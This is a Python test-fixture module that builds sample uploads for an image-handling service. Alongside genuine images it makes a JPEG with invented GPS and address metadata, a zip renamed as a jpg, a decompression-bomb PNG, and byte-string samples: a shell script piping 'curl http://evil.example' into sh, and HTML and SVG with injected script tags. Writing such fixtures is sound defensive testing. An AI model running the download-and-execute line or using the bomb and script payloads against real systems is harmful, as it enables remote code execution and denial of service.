"""Files as somebody may send them: real pictures, and what only says that it is one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image

GPS = 0x8825


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 480), colour: Any = (120, 90, 60), **how: Any) -> bytes:
    made = io.BytesIO()
    mode = "RGB" if not isinstance(colour, tuple) or len(colour) == 3 else "RGBA"
    Image.new(mode, size, colour).save(made, kind, **how)
    return made.getvalue()


def with_place(turned: int = 6) -> bytes:
    """As a phone writes it: lying on its side, with where and with what it was taken."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x0110] = turned, "Invented Phones", "Snoop 3"
    exif[GPS] = {1: "N", 2: (52.0, 28.0, 49.2), 3: "W", 4: (1.0, 53.0, 24.0)}
    half = Image.new("RGB", (640, 480), "white")
    half.paste((200, 0, 0), (0, 0, 320, 480))
    made = io.BytesIO()
    half.save(made, "JPEG", exif=exif, comment=b"Leila, 20 Invented Lane")
    return made.getvalue()


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("cot.jpg", b"nothing" * 100)
    return made.getvalue()


def says_it_is_huge(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few bytes that unpacks to gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
PAGE = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
